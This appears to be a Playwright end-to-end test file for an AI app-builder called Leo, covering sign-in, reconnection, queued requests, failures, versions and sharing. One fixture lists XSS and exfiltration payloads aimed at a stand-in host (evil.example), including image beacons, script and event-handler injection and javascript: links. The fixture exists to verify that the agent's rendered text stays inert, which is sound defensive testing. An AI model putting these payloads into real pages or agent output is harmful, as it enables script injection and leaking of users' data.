import type { Page } from "playwright-core";
import { expect, test } from "vitest";
import type { Fact } from "@leo/core/event.ts";
import { failure } from "@leo/core/failure.ts";
import { CloseCode } from "@leo/core/protocol/close-code.ts";
import { withPage } from "./support/browser.ts";
import { composer, progress, rowSeqs, signIn, timeline, untilAppOpened, untilSeq } from "./support/pages.ts";
import { FAIL, FILES, FINISH, START, WORK } from "./support/scenario.ts";
import { withStub, type Stub } from "./support/stub.ts";

const runningApp = (stub: Stub, facts: Fact[] = [...START, ...WORK]) => {
  const { app, generation } = stub.addApp("A todo list", "Todo list");
  stub.emit(generation.id, ...facts);
  return { app, generation, path: `${stub.url}/apps/${app.id}` };
};

const doneApp = (stub: Stub) => {
  const made = runningApp(stub, [...START, ...WORK, ...FINISH]);
  stub.versions.set(made.generation.id, { files: { ...FILES }, checks: [] });
  return made;
};

const queue = (page: Page) => page.getByRole("region", { name: "Queued requests" });

const addRequest = async (page: Page, text: string) => {
  await composer(page).fill(text);
  await page.getByRole("button", { name: "Send", exact: true }).click();
};

const LOST_SOCKET = /WebSocket connection|ERR_INTERNET_DISCONNECTED|Failed to load resource/;

test("signing in, asking and following the work to the running app", async () => {
  await withStub({}, (stub) =>
    withPage({}, async (page) => {
      await signIn(page, stub.url);
      const prompt = page.getByRole("textbox", { name: "What should Leo build?" });
      await expect.poll(() => prompt.evaluate((element) => element === document.activeElement)).toBe(true);
      await prompt.fill("A todo list");
      await page.getByRole("button", { name: "Build it" }).click();
      await progress(page).getByText("Next in the queue").waitFor();
      const [generation] = stub.generations.values();
      if (!generation) throw new Error("The page has sent no request.");

      stub.emit(generation.id, ...START, ...WORK);
      await timeline(page).getByText("src/components/AddTodo.tsx").waitFor();
      stub.emit(generation.id, ...FINISH);
      await timeline(page).getByText("Version 1 is ready").waitFor();
      await page
        .frameLocator('iframe[title="Preview"]')
        .getByRole("heading", { name: "Todo list" })
        .waitFor();
      expect(await progress(page).count()).toBe(0);
    }),
  );
});

test("a wrong password is told in a sentence", async () => {
  await withStub({}, (stub) =>
    withPage({ allowedErrors: /status of 400/ }, async (page) => {
      await page.goto(stub.url);
      await page.getByLabel("Email").fill("dev@leo.local");
      await page.getByLabel("Password").fill("not-this");
      await page.getByRole("button", { name: "Sign in" }).click();
      await expect.poll(() => page.getByRole("alert").textContent()).toBe("Wrong email or password.");
    }),
  );
});

test("an address that was opened signed out is there after signing in", async () => {
  await withStub({}, (stub) =>
    withPage({}, async (page) => {
      const { path } = doneApp(stub);
      await signIn(page, path);
      await timeline(page).getByText("Version 1 is ready").waitFor();
      expect(page.url()).toBe(path);
    }),
  );
});

test("a second try of the same submission carries the same idempotency key", async () => {
  await withStub({}, (stub) =>
    withPage({ allowedErrors: /Failed to load resource/ }, async (page) => {
      const keys: (string | undefined)[] = [];
      await page.route("**/api/apps", async (route) => {
        if (route.request().method() !== "POST") return route.continue();
        keys.push(route.request().headers()["idempotency-key"]);
        return keys.length === 1 ? route.abort() : route.continue();
      });
      await signIn(page, stub.url);
      await page.getByRole("textbox", { name: "What should Leo build?" }).fill("A todo list");
      await page.getByRole("button", { name: "Build it" }).click();
      await page.getByRole("alert").getByText("Can't reach the server.").waitFor();
      await page.getByRole("button", { name: "Build it" }).click();
      await timeline(page).waitFor();
      expect(keys).toHaveLength(2);
      expect(keys[0]).toBeTruthy();
      expect(keys[1]).toBe(keys[0]);
    }),
  );
});

test("a reload in the middle shows every row once and goes on", async () => {
  await withStub({}, (stub) =>
    withPage({}, async (page) => {
      const { generation, path } = runningApp(stub);
      await signIn(page, path);
      const seen = stub.events.get(generation.id)?.length ?? 0;
      await untilSeq(page, seen);
      const before = await rowSeqs(page);
      await page.reload();
      await untilSeq(page, seen);
      expect(await rowSeqs(page)).toEqual(before);
      stub.emit(generation.id, ...FINISH);
      await timeline(page).getByText("Version 1 is ready").waitFor();
      const after = await rowSeqs(page);
      expect(new Set(after).size).toBe(after.length);
      expect(after.slice(0, before.length)).toEqual(before);
    }),
  );
});

test("a cut connection is told, keeps the page, and catches up without doubles", async () => {
  await withStub({}, (stub) =>
    withPage({ allowedErrors: LOST_SOCKET }, async (page) => {
      const { generation, path } = runningApp(stub);
      await signIn(page, path);
      await timeline(page).getByText("npm run build").waitFor();
      await page.context().setOffline(true);
      await page.getByText("You're offline.").waitFor();
      stub.sockets.drop();
      stub.emit(generation.id, ...FINISH);
      await timeline(page).getByText("src/App.tsx").first().waitFor();
      await page.context().setOffline(false);
      await timeline(page).getByText("Version 1 is ready").waitFor();
      await page.getByText("You're offline.").waitFor({ state: "detached" });
      const seqs = await rowSeqs(page);
      expect(new Set(seqs).size).toBe(seqs.length);
    }),
  );
});

test("a line that the server refuses is told with its reason, and is there again once it may be", async () => {
  await withStub({}, (stub) =>
    withPage({ allowedErrors: LOST_SOCKET }, async (page) => {
      const { generation, path } = runningApp(stub);
      await signIn(page, path);
      await timeline(page).getByText("npm run build").waitFor();
      stub.sockets.refuse = CloseCode.suspended;
      stub.sockets.drop();
      await page.getByText("Your account is suspended.").waitFor();
      stub.sockets.refuse = CloseCode.tooMany;
      await page.getByText("Too many Leo pages are open.").waitFor();
      stub.sockets.refuse = undefined;
      stub.emit(generation.id, ...FINISH);
      await timeline(page).getByText("Version 1 is ready").waitFor();
      await page.getByText("Too many Leo pages are open.").waitFor({ state: "detached" });
      const seqs = await rowSeqs(page);
      expect(new Set(seqs).size).toBe(seqs.length);
    }),
  );
});

test("a restarted server is found again by itself", async () => {
  await withStub({}, (stub) =>
    withPage({ allowedErrors: LOST_SOCKET }, async (page) => {
      const { generation, path } = runningApp(stub);
      await signIn(page, path);
      await timeline(page).getByText("npm run build").waitFor();
      stub.sockets.drop();
      stub.emit(generation.id, ...FINISH);
      await timeline(page).getByText("Version 1 is ready").waitFor();
      const seqs = await rowSeqs(page);
      expect(new Set(seqs).size).toBe(seqs.length);
    }),
  );
});

test("two tabs on one generation show the same rows", async () => {
  await withStub({}, (stub) =>
    withPage({}, async (page) => {
      const { generation, path } = runningApp(stub);
      await signIn(page, path);
      const other = await page.context().newPage();
      await other.goto(path);
      await timeline(other).getByText("npm run build").waitFor();
      stub.emit(generation.id, ...FINISH);
      await timeline(page).getByText("Version 1 is ready").waitFor();
      await timeline(other).getByText("Version 1 is ready").waitFor();
      expect(await rowSeqs(other)).toEqual(await rowSeqs(page));
    }),
  );
});

test("a failed run shows why, and Fix this sends the failed check back", async () => {
  await withStub({}, (stub) =>
    withPage({}, async (page) => {
      const { app, path } = runningApp(stub, [...START, ...WORK, ...FAIL]);
      await signIn(page, path);
      await timeline(page).getByText("The app still fails its checks").waitFor();
      await page.getByRole("button", { name: "Fix this" }).click();
      await progress(page).waitFor();
      const [, followUp] = [...stub.generations.values()].filter(({ appId }) => appId === app.id);
      expect(followUp?.prompt).toContain("A todo list");
      expect(followUp?.prompt).toContain("Property 'txt' does not exist");
    }),
  );
});

test("with a draft, Fix this continues from it and does not repeat the request", async () => {
  await withStub({}, (stub) =>
    withPage({}, async (page) => {
      const { app, generation, path } = runningApp(stub, [...START, ...WORK, ...FAIL]);
      generation.hasDraft = true;
      await signIn(page, path);
      const card = page.getByRole("region", { name: "Failure" });
      await card.getByText("Its files are kept as a draft.").waitFor();
      expect(await card.getByRole("button").allTextContents()).toContain("Start over");
      await card.getByRole("button", { name: "Fix this" }).click();
      await progress(page).waitFor();
      const created = stub.requests.findLast((request) => request.path === `/api/apps/${app.id}/generations`);
      expect(created?.body).toMatchObject({ baseGenerationId: generation.id });
      expect(created?.body).toMatchObject({ prompt: expect.stringMatching(/^The last try failed/) });
    }),
  );
});

test("a declined request is edited and sent again, and what was typed is kept", async () => {
  await withStub({}, (stub) =>
    withPage({}, async (page) => {
      const { generation, path } = runningApp(stub, [
        ...START,
        { type: "state_changed", state: "failed", attempt: 1, failure: failure("declined") },
      ]);
      await signIn(page, path);
      const card = page.getByRole("region", { name: "Failure" });
      await card.getByText("Claude declined this request.").waitFor();
      expect(await card.getByRole("button").allTextContents()).toEqual(["Edit the request", "Try again"]);
      const box = page.getByRole("textbox", { name: "What should change?" });
      await box.fill("and a timer");
      await card.getByRole("button", { name: "Edit the request" }).click();
      expect(await box.inputValue()).toBe(`${generation.prompt}\nand a timer`);
      expect(await box.evaluate((element) => element === document.activeElement)).toBe(true);
    }),
  );
});

test("Try again sends the same request as a new run", async () => {
  await withStub({}, (stub) =>
    withPage({}, async (page) => {
      const { generation, path } = runningApp(stub, [
        ...START,
        { type: "state_changed", state: "failed", attempt: 1, failure: failure("capacity") },
      ]);
      await signIn(page, path);
      await timeline(page).getByText("No machine was available").waitFor();
      expect(await page.getByRole("button", { name: "Fix this" }).count()).toBe(0);
      await page.getByRole("button", { name: "Try again" }).click();
      await progress(page).waitFor();
      expect(stub.requests.map((request) => request.path)).toContain(
        `/api/generations/${generation.id}/retry`,
      );
    }),
  );
});

test("a request that waited too long can be sent again as it is, or written anew", async () => {
  await withStub({}, (stub) =>
    withPage({}, async (page) => {
      const { app, generation, path } = runningApp(stub, [
        { type: "state_changed", state: "failed", attempt: 0, failure: failure("expired") },
      ]);
      await signIn(page, path);
      const card = page.getByRole("region", { name: "Failure" });
      await card.getByRole("heading", { name: "This request never started" }).waitFor();
      await card.getByText("costs nothing").waitFor();
      expect(await card.getByRole("button").allTextContents()).toEqual(["Try again"]);
      await card.getByRole("button", { name: "Try again" }).click();
      await progress(page).getByText("Next in the queue").waitFor();
      const retried = stub.requests.filter((request) => request.path.endsWith(`/${generation.id}/retry`));
      expect(retried).toHaveLength(1);

      const second = [...stub.generations.values()].at(-1);
      if (!second) throw new Error("Nothing was sent again.");
      stub.emit(second.id, {
        type: "state_changed",
        state: "failed",
        attempt: 0,
        failure: failure("expired"),
      });
      await card.waitFor();
      await addRequest(page, "A todo list, and keep it small");
      await timeline(page).getByText("A todo list, and keep it small").waitFor();
      const created = stub.requests.findLast((request) => request.path === `/api/apps/${app.id}/generations`);
      expect(created?.body).toMatchObject({ prompt: "A todo list, and keep it small" });
    }),
  );
});

test("cancel tells its true progress", async () => {
  await withStub({}, (stub) =>
    withPage({}, async (page) => {
      const { generation, path } = runningApp(stub);
      await signIn(page, path);
      await page.getByRole("button", { name: "Cancel" }).click();
      await progress(page).getByText("Stopping and saving what's there").waitFor();
      expect(await page.getByRole("button", { name: "Cancel" }).isDisabled()).toBe(true);
      stub.emit(generation.id, { type: "attempt_progress", attempt: 1, step: "stopping" });
      await progress(page).getByText("Stopping the machine").waitFor();
      stub.emit(generation.id, { type: "state_changed", state: "cancelled", attempt: 1 });
      await timeline(page).getByText("Cancelled").waitFor();
      await page.getByRole("button", { name: "Try again" }).waitFor();
    }),
  );
});

test("what is sent while the agent works waits for it, afterwards it starts a new version", async () => {
  await withStub({}, (stub) =>
    withPage({}, async (page) => {
      const { app, generation, path } = runningApp(stub);
      await signIn(page, path);
      await timeline(page).getByText("npm run build").waitFor();
      await addRequest(page, "Use blue");
      await queue(page).getByText("Use blue").waitFor();
      expect(stub.requests.at(-1)?.path ?? "").not.toBe(`/api/apps/${app.id}/generations`);
      stub.takeMessages(generation.id);
      await timeline(page).getByText("Use blue").waitFor();
      await queue(page).waitFor({ state: "detached" });
      stub.emit(generation.id, ...FINISH);
      await timeline(page).getByText("Version 1 is ready").waitFor();
      await untilAppOpened(page);
      await addRequest(page, "Now green");
      await timeline(page).getByText("Now green").waitFor();
      await expect.poll(() => stub.generations.size).toBe(2);
    }),
  );
});

test("what is typed while a request is on its way stays", async () => {
  await withStub({}, (stub) =>
    withPage({}, async (page) => {
      const { path } = runningApp(stub);
      await signIn(page, path);
      const answer = Promise.withResolvers<void>();
      await page.route("**/messages", async (route) => {
        await answer.promise;
        await route.continue();
      });
      const sent = page.waitForRequest("**/messages");
      await addRequest(page, "Use blue");
      await sent;
      await composer(page).fill("And a footer");
      answer.resolve();
      await queue(page).getByText("Use blue").waitFor();
      await page.getByRole("button", { name: "Send", exact: true, disabled: false }).click();
      await queue(page).getByText("And a footer").waitFor();
      await expect.poll(() => composer(page).inputValue()).toBe("");
    }),
  );
});

test("a queued request can be changed and removed, and another tab sees it", async () => {
  await withStub({}, (stub) =>
    withPage({}, async (page) => {
      const { path } = runningApp(stub);
      await signIn(page, path);
      const other = await page.context().newPage();
      await other.goto(path);
      await addRequest(page, "Use blu");
      await addRequest(page, "And a footer");
      await queue(other).getByText("And a footer").waitFor();
      await queue(page).getByRole("button", { name: "Edit queued request" }).first().click();
      await page.getByRole("textbox", { name: "Queued request" }).fill("Use blue");
      await page.getByRole("button", { name: "Save" }).click();
      await queue(other).getByText("Use blue").waitFor();
      await queue(page).getByText("Use blue").waitFor();
      await queue(other).getByRole("button", { name: "Remove queued request" }).last().click();
      await queue(page).getByText("And a footer").waitFor({ state: "detached" });
      expect(await queue(page).getByRole("listitem").count()).toBe(1);
    }),
  );
});

test("a change that comes too late is refused in a sentence and not lost", async () => {
  await withStub({}, (stub) =>
    withPage({ allowedErrors: /status of 409/ }, async (page) => {
      const { generation, path } = runningApp(stub);
      await signIn(page, path);
      await addRequest(page, "Use blue");
      await queue(page).getByRole("button", { name: "Edit queued request" }).click();
      await page.getByRole("textbox", { name: "Queued request" }).fill("Use green");
      stub.refuseMessageChanges = true;
      await page.getByRole("button", { name: "Save" }).click();
      await page.getByRole("alert").getByText("The agent has this request already").waitFor();
      stub.takeMessages(generation.id);
      await expect.poll(() => composer(page).inputValue()).toBe("Use green");
      await timeline(page).getByText("Use blue").waitFor();
    }),
  );
});

test("a proposed plan can be accepted", async () => {
  await withStub({}, (stub) =>
    withPage({}, async (page) => {
      const { generation, path } = runningApp(stub, [
        ...START,
        { type: "plan_proposed", text: "1. A form\n2. A list" },
      ]);
      await signIn(page, path);
      await progress(page).getByText("Waiting for your reply to the plan").waitFor();
      await page.getByRole("button", { name: "Build this plan" }).click();
      await queue(page).getByText("The plan looks good. Build it.").waitFor();
      expect(await page.getByRole("button", { name: "Build this plan" }).count()).toBe(0);
      expect(stub.requests.map((request) => request.path)).toContain(
        `/api/generations/${generation.id}/messages`,
      );
    }),
  );
});

/** Each would fetch, run or lead somewhere if it were taken as it is meant. */
const HOSTILE_TEXT = [
  "Before ![secret](https://evil.example/?chat=1) and ![][ref] after",
  "[ref]: https://evil.example/ref.png",
  "<img src='https://evil.example/2' onerror='globalThis.ran = 1'> <svg onload='globalThis.ran = 1'><image href='https://evil.example/3'></svg>",
  "<script>globalThis.ran = 1</script><script src='https://evil.example/4.js'></script>",
  "<iframe src='https://evil.example/5'></iframe><object data='https://evil.example/6'></object><embed src='https://evil.example/7'>",
  "<link rel=stylesheet href='https://evil.example/8.css'><style>@import 'https://evil.example/9.css'; * { background: url(https://evil.example/10) }</style>",
  "<video src='https://evil.example/11' poster='https://evil.example/12'></video><audio src='https://evil.example/13'></audio>",
  "<base href='https://evil.example/'><meta http-equiv=refresh content='0;url=https://evil.example/14'>",
  "<form action='https://evil.example/15'><input name=x><button>Send</button></form><p style='background:url(https://evil.example/16)'>styled</p>",
  "[one](javascript:globalThis.ran=1) [two](data:text/html,<script>1</script>) [three](vbscript:x) [four](JaVaScRiPt:globalThis.ran=1) [five](blob:https://evil.example/x) [six](//evil.example/y) <javascript:globalThis.ran=1>",
  "![a](data:image/svg+xml,<svg onload=alert(1)>) [good](https://good.example/page)",
  '```mermaid\ngraph TD; A-->B; click A href "javascript:globalThis.ran=1"\n```',
  "$$\\href{javascript:globalThis.ran=1}{x} \\includegraphics{https://evil.example/17}$$",
  "```html\n<img src=https://evil.example/18 onerror='globalThis.ran=1'>\n```",
  "The end",
].join("\n\n");

test("the agent's text loads nothing, runs nothing and links only to the web, while streaming and after", async () => {
  await withStub({}, (stub) =>
    withPage({}, async (page) => {
      const asked: string[] = [];
      page.on("request", (request) => asked.push(request.url()));
      const { generation, path } = runningApp(stub, START);
      await signIn(page, path);
      await page.waitForLoadState("networkidle");
      // In pieces, so that every half-open mark is drawn as well.
      const pieces = HOSTILE_TEXT.match(/[\s\S]{1,40}/g) ?? [];
      for (const text of pieces)
        stub.emit(generation.id, { type: "agent_text", blockId: "b", text, done: false });
      const inPage = timeline(page);
      const check = async () => {
        await inPage.getByText("The end").waitFor();
        const forbidden =
          "img,script,iframe,object,embed,link,style,video,audio,base,meta,form,svg image,[style*='url'],[onerror],[onload]";
        expect(await inPage.locator(".prose").locator(forbidden).count()).toBe(0);
        const links = await inPage
          .locator(".prose a[href]")
          .evaluateAll((all) => all.map((link) => [link.getAttribute("href"), link.getAttribute("rel")]));
        expect(links).toContainEqual(["https://good.example/page", "noopener noreferrer nofollow"]);
        for (const [href, rel] of links)
          expect([href, rel]).toEqual([expect.stringMatching(/^https:\/\//), "noopener noreferrer nofollow"]);
        expect(await page.evaluate("globalThis.ran")).toBeUndefined();
        expect(asked.filter((url) => url.includes("evil.example"))).toEqual([]);
      };
      await check();
      stub.emit(generation.id, { type: "agent_text", blockId: "b", text: "", done: true }, ...FINISH);
      await inPage.getByText("Version 1 is ready").waitFor();
      await check();
    }),
  );
});

test("an app is shared by a link that is shown once, counted and revoked", async () => {
  await withStub({}, (stub) =>
    withPage({ permissions: ["clipboard-read", "clipboard-write"] }, async (page) => {
      const { path } = doneApp(stub);
      await signIn(page, path);
      await page.getByRole("button", { name: "Share" }).click();
      await page.getByRole("button", { name: "Create link" }).click();
      const address = await page.getByRole("textbox", { name: "New link" }).inputValue();
      expect(address).toMatch(new RegExp(`^${stub.url}/s/leo_sh_`));
      await page.getByRole("button", { name: "Copy new link" }).click();
      await expect.poll(() => page.evaluate(() => navigator.clipboard.readText())).toBe(address);
      await page.keyboard.press("Escape");

      for (const share of stub.shares.values()) {
        share.seenCount = 2;
        share.lastSeenAt = new Date().toISOString();
      }
      await page.reload();
      await page.getByRole("button", { name: "Share" }).click();
      await page.getByText("Opened 2 times, last just now").waitFor();
      expect(await page.getByRole("textbox", { name: "New link" }).count()).toBe(0);
      await page.getByRole("button", { name: /^Revoke the link/ }).click();
      await page.getByRole("list", { name: "Active links" }).waitFor({ state: "detached" });
      expect(stub.shares.size).toBe(0);
    }),
  );
});

test("files that hold what looks like secrets are downloaded only after a second word", async () => {
  await withStub({}, (stub) =>
    withPage({ allowedErrors: /status of 409/ }, async (page) => {
      const { generation, path } = doneApp(stub);
      const findings = [
        { path: "src/api.ts", line: 7, kind: "GitHub token", inBundle: false },
        { path: "dist/assets/index.js", line: 1, kind: "GitHub token", inBundle: true },
      ];
      const secrets = { digest: "seen", findings, count: 2 };
      stub.versions.set(generation.id, { files: { ...FILES }, checks: [], secrets });
      await signIn(page, `${path}?tab=versions`);
      await page.getByRole("button", { name: "Download version 1" }).click();
      const dialog = page.getByRole("alertdialog", { name: "This version may contain secrets" });
      await dialog.getByText("src/api.ts:7").waitFor();
      await dialog.getByText("sent to every visitor").waitFor();
      await dialog.getByRole("button", { name: "Cancel" }).click();
      await dialog.waitFor({ state: "detached" });
      await page.getByRole("button", { name: "Download version 1" }).click();
      const download = page.waitForEvent("download");
      await dialog.getByRole("button", { name: "Download anyway" }).click();
      expect((await download).suggestedFilename()).toBe("version-1.zip");
    }),
  );
});

test("a link with a prompt fills the box and starts nothing", async () => {
  await withStub({}, (stub) =>
    withPage({}, async (page) => {
      await signIn(page, `${stub.url}/?prompt=A%20clock`);
      await expect
        .poll(() => page.getByRole("textbox", { name: "What should Leo build?" }).inputValue())
        .toBe("A clock");
      expect(stub.generations.size).toBe(0);
    }),
  );
});

test("tab, file and line live in the address", async () => {
  await withStub({}, (stub) =>
    withPage({}, async (page) => {
      const { path } = doneApp(stub);
      await signIn(page, `${path}?tab=code&file=src/main.tsx&line=2`);
      await page
        .getByRole("region", { name: "Contents of src/main.tsx" })
        .getByText("createRoot")
        .first()
        .waitFor();
      await page.getByRole("treeitem", { name: "storage.ts" }).click();
      await page.getByRole("region", { name: "Contents of src/lib/storage.ts" }).waitFor();
      expect(new URL(page.url()).searchParams.get("file")).toBe("src/lib/storage.ts");
      await page.goBack();
      await page.getByRole("region", { name: "Contents of src/main.tsx" }).waitFor();
    }),
  );
});

test("an older version can be shown, compared and continued from", async () => {
  await withStub({}, (stub) =>
    withPage({}, async (page) => {
      const { app, generation, path } = doneApp(stub);
      const second = stub.addGeneration(app.id, "Add a filter");
      stub.emit(second.id, ...START, ...WORK, ...FINISH);
      stub.versions.set(second.id, { files: { ...FILES, "src/Filter.tsx": "export {};\n" }, checks: [] });
      await signIn(page, `${path}?tab=versions`);
      await page.getByRole("button", { name: "Compare version 2 with the previous one" }).click();
      await page.getByRole("region", { name: "src/Filter.tsx" }).getByText("new").waitFor();
      await page.getByRole("tab", { name: "Versions" }).click();
      await page.getByRole("button", { name: "More actions for version 1" }).click();
      await page.getByRole("menuitem", { name: "Continue from here" }).click();
      await composer(page).fill("Take another way");
      await page.getByRole("button", { name: "Send", exact: true }).click();
      await expect
        .poll(
          () => stub.requests.findLast((request) => request.path === `/api/apps/${app.id}/generations`)?.body,
        )
        .toMatchObject({ prompt: "Take another way", baseGenerationId: generation.id });
    }),
  );
});

/** An app with two versions, shown in its versions. */
const openVersions = async (stub: Stub, page: Page) => {
  const { app, generation, path } = doneApp(stub);
  const second = stub.addGeneration(app.id, "Add a filter");
  stub.emit(second.id, ...START, ...WORK, ...FINISH);
  stub.versions.set(second.id, { files: { ...FILES }, checks: [] });
  await signIn(page, `${path}?tab=versions`);
  await page.getByRole("heading", { name: "Version 2" }).waitFor();
  return { app, generation, second };
};

test("an old version is restored as the newest", async () => {
  await withStub({}, (stub) =>
    withPage({}, async (page) => {
      await openVersions(stub, page);
      await page.getByRole("button", { name: "Restore" }).click();
      await timeline(page).getByText("Version 3 is ready").waitFor();
      await timeline(page).getByText("Copied from version 1. Nothing needed building.").waitFor();
      await page.getByRole("tab", { name: "Versions" }).click();
      await page.getByRole("region", { name: "Versions" }).getByText("Restored from version 1").waitFor();
      await expect.poll(() => page.getByRole("button", { name: "Restore" }).count()).toBe(2);
    }),
  );
});

test("a version is copied as a new app, which opens", async () => {
  await withStub({}, (stub) =>
    withPage({}, async (page) => {
      const { app } = await openVersions(stub, page);
      await page.getByRole("button", { name: "More actions for version 1" }).click();
      await page.getByRole("menuitem", { name: "Copy to new app" }).click();
      await page.getByText("Copied to “Todo list (copy)”").waitFor();
      expect(page.url()).not.toContain(app.id);
      await timeline(page).getByText("Version 1 is ready").waitFor();
    }),
  );
});

test("the account shows what was spent as bars and as a table", async () => {
  await withStub({}, (stub) =>
    withPage({}, async (page) => {
      await signIn(page, `${stub.url}/account`);
      await page.getByRole("img", { name: /^Spent per day over the last 30 days/ }).waitFor();
      await page.getByText("Show as table").click();
      await page.getByRole("columnheader", { name: "Spent" }).waitFor();
      expect(await page.getByRole("rowheader").count()).toBeGreaterThan(15);
    }),
  );
});

test("the log has every event and can be filtered", async () => {
  await withStub({}, (stub) =>
    withPage({}, async (page) => {
      const { generation, path } = doneApp(stub);
      await signIn(page, `${path}?tab=log`);
      await page.getByText(`${stub.events.get(generation.id)?.length} events`).waitFor();
      await page.getByRole("searchbox", { name: "Filter the log" }).fill("addtodo");
      await page.getByText(/^3 of \d+ events$/).waitFor();
      expect(await page.locator("[data-log-seq]").count()).toBe(4);
    }),
  );
});

test("an app opens when nobody is typing, and gives back the focus that it takes", async () => {
  await withStub({}, (stub) =>
    withPage({}, async (page) => {
      const { generation, path } = runningApp(stub);
      const words = "and then a button that clears the list";
      await signIn(page, path);
      await composer(page).focus();
      await page.keyboard.type(words.slice(0, 4));
      stub.emit(generation.id, ...FINISH);
      await page.keyboard.type(words.slice(4), { delay: 60 });
      await page.frameLocator('iframe[title="Preview"]').getByRole("textbox").waitFor();
      expect(await composer(page).inputValue()).toBe(words);
      await expect
        .poll(() => composer(page).evaluate((element) => element === document.activeElement))
        .toBe(true);
      await page.keyboard.type(", please");
      expect(await composer(page).inputValue()).toBe(`${words}, please`);
    }),
  );
});

test("a phone shows the conversation and the app in turn, without sideways scrolling", async () => {
  await withStub({}, (stub) =>
    withPage({ viewport: { width: 360, height: 740 }, isMobile: true, hasTouch: true }, async (page) => {
      const { path } = doneApp(stub);
      await signIn(page, path);
      await timeline(page).getByText("Version 1 is ready").waitFor();
      await composer(page).fill("And a foo");
      await page.getByRole("tab", { name: "Preview" }).click();
      await page
        .frameLocator('iframe[title="Preview"]')
        .getByRole("heading", { name: "Todo list" })
        .waitFor();
      const overflow = () => page.evaluate(() => document.documentElement.scrollWidth - innerWidth);
      expect(await overflow()).toBe(0);
      await page.getByRole("tab", { name: "Chat" }).click();
      await timeline(page).waitFor();
      expect(await composer(page).inputValue()).toBe("And a foo");
      expect(await overflow()).toBe(0);
    }),
  );
});

test("an unknown app is not found", async () => {
  await withStub({}, (stub) =>
    withPage({ allowedErrors: /status of 404/ }, async (page) => {
      await signIn(page, `${stub.url}/apps/6f9b3a52-8f5b-4e2c-9a1d-00000000dead`);
      await page.getByRole("heading", { name: "Not found" }).waitFor();
      expect(await page.title()).toBe("Not found · Leo");
    }),
  );
});

test("the title tells how the run stands", async () => {
  await withStub({}, (stub) =>
    withPage({}, async (page) => {
      const { generation, path } = runningApp(stub);
      await signIn(page, path);
      await expect.poll(() => page.title()).toBe("Building: Todo list · Leo");
      stub.emit(generation.id, ...FINISH);
      await expect.poll(() => page.title()).toBe("Ready: Todo list · Leo");
    }),
  );
});

test("the palette opens with the keyboard and goes to an app", async () => {
  await withStub({}, (stub) =>
    withPage({}, async (page) => {
      const { app } = doneApp(stub);
      await signIn(page, stub.url);
      await page.keyboard.press("Control+k");
      await page.getByRole("combobox", { name: "Search and commands" }).fill("todo");
      await page.getByRole("option", { name: "Todo list" }).waitFor();
      await page.keyboard.press("Enter");
      await expect.poll(() => new URL(page.url()).pathname).toBe(`/apps/${app.id}`);
    }),
  );
});

test("the palette finds every app, also those beyond the first page of the list", async () => {
  await withStub({ appsPerPage: 3 }, (stub) =>
    withPage({}, async (page) => {
      const { app: oldest } = stub.addApp("A garden planner", "Garden planner");
      for (let number = 1; number <= 7; number += 1) stub.addApp(`App ${number}`);
      await signIn(page, stub.url);
      await page.keyboard.press("Control+k");
      const options = page.getByRole("option");
      await page.getByRole("option", { name: "App 7" }).waitFor();
      expect(await page.getByRole("option", { name: "Garden planner" }).count()).toBe(0);

      await page.getByRole("option", { name: "Show more apps" }).click();
      await page.getByRole("option", { name: "App 2" }).waitFor();
      const search = page.getByRole("combobox", { name: "Search and commands" });
      await search.fill("garden");
      await page.getByRole("option", { name: "Garden planner" }).waitFor();
      expect(await options.count()).toBe(1);
      await search.fill("dark");
      await page.getByRole("option", { name: "Dark theme" }).waitFor();
      await search.fill("garden");
      await page.getByRole("option", { name: "Garden planner", selected: true }).waitFor();
      await page.keyboard.press("Enter");
      await expect.poll(() => new URL(page.url()).pathname).toBe(`/apps/${oldest.id}`);
    }),
  );
});

test("another endpoint than Anthropic's is named on the home page and in the workspace", async () => {
  await withStub({ modelIsMock: false, modelEndpoint: "llm.example.com" }, (stub) =>
    withPage({}, async (page) => {
      const { path } = doneApp(stub);
      await signIn(page, stub.url);
      await page.getByText("Using the model at llm.example.com.").waitFor();
      await page.goto(path);
      const badge = page.getByTitle("Using the model at llm.example.com");
      await badge.waitFor();
      expect(await badge.textContent()).toBe("llm.example.com");
    }),
  );
});

test("a scripted model is named on the home page and in the workspace", async () => {
  await withStub({ modelIsMock: true }, (stub) =>
    withPage({}, async (page) => {
      const { path } = doneApp(stub);
      await signIn(page, stub.url);
      await page.getByText("Demo model.").waitFor();
      await page.goto(path);
      await page.getByRole("button", { name: "Demo model" }).click();
      await expect.poll(() => page.getByText("A script stands in for Claude.").isVisible()).toBe(true);
    }),
  );
});

test("the cards of my apps show their pictures, and a search asks the server", async () => {
  await withStub({}, (stub) =>
    withPage({}, async (page) => {
      for (const name of ["Todo list", "Kanban", "Clock", "Timer"]) stub.addApp(`A ${name}`, name);
      const { app, generation } = doneApp(stub);
      app.screenshotUrl = `/api/generations/${generation.id}/screenshot`;
      await signIn(page, stub.url);
      const picture = page.getByRole("listitem").filter({ hasText: "Todo list" }).locator("img");
      await picture.first().waitFor();
      expect(await picture.first().evaluate((image: HTMLImageElement) => image.naturalWidth)).toBe(1);
      const search = page.getByRole("searchbox", { name: "Search your apps" });
      await search.fill("kan");
      await page.getByRole("link", { name: "Clock" }).waitFor({ state: "detached" });
      await page.getByRole("link", { name: "Kanban" }).waitFor();
      await search.fill("nothing");
      await page.getByText("No apps match “nothing”").waitFor();
      await search.fill("");
      await page.getByRole("link", { name: "Clock" }).waitFor();
    }),
  );
});
